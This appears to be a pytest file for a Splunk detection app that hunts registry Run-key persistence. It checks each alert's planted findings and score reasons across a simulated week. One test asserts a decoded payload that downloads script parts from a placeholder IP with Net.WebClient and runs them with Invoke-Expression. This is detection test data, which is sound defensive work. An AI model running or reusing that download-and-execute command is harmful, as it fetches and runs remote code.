"""Every alert over the whole simulated week in one run: it finds what was planted for it, and nothing ordinary."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace

import pytest

from tests.minisplunk.pipeline import Rows
from tests.minisplunk.schedule import Throttle
from tests.minisplunk.splunk import Splunk
from tests.minisplunk.values import Row, values_of
from tests.site.simulation.moments import HOUR, at
from tests.site.simulation.planted import (
    CHAIN,
    CRITICAL,
    FIRED,
    HIDDEN,
    HIGH,
    KNOWN_NAME,
    REMOVED,
    STORED,
)
from tests.site.simulation.week import Week
from tests.splunk_app.conftest import SUNDAY_MIDNIGHT, Start
from tests.splunk_app.scheduler import Scheduled, clock
from tests.splunk_app.told import endpoint, told_by

FIRST_SEEN = "Run Key Hunt - Alert - First seen in the environment"
HEALTH = "Run Key Hunt - Health - Check data, command and tables"
ON_WRITES = (CRITICAL, HIGH, KNOWN_NAME, HIDDEN, REMOVED, FIRST_SEEN, STORED)
ON_CHAINS = (CHAIN, FIRED)
WHOLE_WEEK = 7 * 24 * HOUR

Finding = tuple[str, str, str]

FOUND: Mapping[str, set[Finding]] = {
    CRITICAL: {
        ("WS-003", "WindowsSync", "100"),
        ("WS-016", "OneDrive", "100"),
        ("SRV-047", "Userinit", "100"),
        ("WS-021", "SyncHelper.vbs", "90"),
        ("WS-028", "1", "100"),
        ("WS-035", "NotepadState", "100"),
        ("WS-033", "<hidden>", "100"),
        ("WS-001", "UserInitMprLogonScript", "100"),
    },
    HIGH: {("WS-010", "HelpdeskAgent", "60")},
    # What has a known name or a hidden one scores 60 and more here, and is told for that.
    KNOWN_NAME: set(),
    HIDDEN: set(),
    REMOVED: {("WS-031", "SecurityHealth", "45")},
    # It has learned nothing.
    FIRST_SEEN: set(),
    CHAIN: {
        ("WS-010", "HelpdeskAgent", "100"),
        ("WS-016", "OneDrive", "100"),
        ("SRV-047", "Userinit", "100"),
        ("WS-021", "SyncHelper.vbs", "100"),
        ("WS-028", "1", "100"),
        ("WS-033", "<hidden>", "100"),
        ("WS-031", "PrintSpoolMonitor", "55"),
    },
    FIRED: {("WS-003", "WindowsSync", "100"), ("WS-001", "UserInitMprLogonScript", "100")},
    STORED: {("WS-035", "lfState", "100")},
}


@pytest.fixture(scope="module")
def found(splunk: Splunk, searches: dict[str, dict[str, str]]) -> dict[str, Rows]:
    """What each alert finds in the whole week."""
    return {name: splunk.search(searches[name]["search"], SUNDAY_MIDNIGHT, "-7d@d", "now") for name in FOUND}


def finding(row: Row) -> tuple[str, ...]:
    return endpoint(row), str(row["rk_value_name"]), str(row["rk_score"])


@pytest.mark.parametrize("alert", FOUND)
def test_an_alert_finds_over_the_whole_week_one_row_for_each_that_it_is_to_find(
    found: dict[str, Rows], alert: str
) -> None:
    assert sorted(map(finding, found[alert])) == sorted(FOUND[alert])


@pytest.mark.parametrize("alert", FOUND)
def test_an_alert_finds_what_was_planted_for_it(simulated: Week, alert: str) -> None:
    assert sorted(found[:2] for found in FOUND[alert]) == sorted(told_by(alert, simulated, throttled_for=WHOLE_WEEK))


@pytest.mark.parametrize("alerts", [ON_WRITES, ON_CHAINS])
def test_of_the_alerts_on_writes_one_tells_a_write_and_of_those_on_chains_one_a_chain(
    found: dict[str, Rows], alerts: tuple[str, ...]
) -> None:
    told = [(row["rk_host"], row["rk_entry_id"]) for alert in alerts for row in found[alert]]
    assert sorted(set(told)) == sorted(told)
    assert told


def test_every_alert_of_the_app_is_among_them(searches: dict[str, dict[str, str]]) -> None:
    assert set(FOUND) == {name for name in searches if " - Alert - " in name}


@pytest.mark.parametrize("alert", [name for name in FOUND if FOUND[name]])
def test_the_reasons_of_every_row_add_up_to_its_score(found: dict[str, Rows], alert: str) -> None:
    sums = [sum(int(reason.split()[0]) for reason in values_of(row["rk_reasons"])) for row in found[alert]]
    assert sums == [int(str(row["rk_score"])) for row in found[alert]]


def test_a_removed_autostart_of_a_security_product_says_who_removed_it(found: dict[str, Rows]) -> None:
    [row] = found[REMOVED]
    assert row["rk_reasons"] == [
        "+0 Run key, starts at every logon (deleted)",
        "+45 The autostart entry of a security product was removed",
    ]
    assert (row["rk_writer"], row["rk_user"], row["rk_severity"]) == ("reg.exe", r"NORDWERK\i.keller", "medium")
    assert row["rk_key"] == r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
    assert "rk_command" not in row


def test_a_hidden_value_is_shown_with_its_key_and_why(found: dict[str, Rows]) -> None:
    [row] = [row for row in found[CRITICAL] if row["rk_value_name"] == "<hidden>"]
    assert row["rk_reasons"] == [
        "+10 Run key, starts at every logon",
        "+60 Value name that Windows' own tools cannot show",
        "+40 Payload lies in the Public or Default profile",
        "+25 Writer is a saved file that does not look like an installer",
        "+15 A saved program registered another one in a folder that users can write to",
        "+15 Writer lies in a Temp or Downloads folder",
        "-65 The score ends at 100",
    ]
    assert str(row["rk_key"]).endswith(r"\Software\Microsoft\Windows\CurrentVersion\Run")
    assert row["rk_command"] == row["rk_payload"] == r"C:\Users\Public\Libraries\ms-cache.exe"
    assert "rk_decoded" not in row


def test_a_stored_program_is_shown_decoded(found: dict[str, Rows]) -> None:
    [row] = found[STORED]
    fetched = [
        f"$part{number} = (New-Object Net.WebClient).DownloadString('http://203.0.113.40/{number}')"
        for number in range(9)
    ]
    last = "Invoke-Expression (($part0, $part1, $part2, $part3) -join '')"
    assert row["rk_decoded"] == "\n".join([*fetched, last])
    assert row["rk_reasons"][0] == "+45 A script or program is kept encoded in the registry"
    assert (row["rk_location"], row["rk_writer"]) == ("StoredPayload", "powershell.exe")
    assert str(row["rk_key"]).endswith(r"\Software\Microsoft\Notepad")


@pytest.fixture(scope="module")
def looking_elsewhere(start_splunk: Start) -> Splunk:
    """A Splunk whose site named an index for Sysmon that there is not."""
    splunk = start_splunk()
    local = splunk.commands.app.path / "local"
    local.mkdir()
    (local / "macros.conf").write_text("[runkeyhunt_index]\ndefinition = index=nowhere\n", encoding="utf-8")
    return replace(splunk, macros=splunk.commands.app.macros())


def test_the_health_alert_is_silent_over_the_week(splunk: Splunk) -> None:
    runs = Scheduled.of(splunk, HEALTH).at_every_slot((at("Sat 00:00"), SUNDAY_MIDNIGHT))
    assert [(clock(now), rows) for now, rows in runs] == [("Sat 05:23", []), ("Sun 05:23", [])]


def test_the_health_alert_fires_where_sysmon_is_looked_for_in_another_index(looking_elsewhere: Splunk) -> None:
    [(now, rows)] = Scheduled.of(looking_elsewhere, HEALTH).at_every_slot((at("Wed 00:00"), at("Thu 00:00")))
    assert clock(now) == "Wed 05:23"
    assert [row["check"] for row in rows if row["state"] == "not ok"] == [
        "Sysmon events",
        "Autostart writes",
        "Extracted fields",
    ]
    assert str(rows[0]["fix"]).startswith("Set the macro runkeyhunt_index to the indexes that hold Sysmon's events")


def test_the_health_alert_comes_once_a_day(looking_elsewhere: Splunk) -> None:
    health = Scheduled.of(looking_elsewhere, HEALTH)
    [(first, rows), (second, _)] = health.at_every_slot((at("Wed 00:00"), at("Fri 00:00")))
    throttle = Throttle(health.alert)
    every = len(rows)
    assert every == 18
    assert [len(throttle.fire(now, rows)) for now in (first, first + 22 * HOUR, second)] == [every, 0, every]
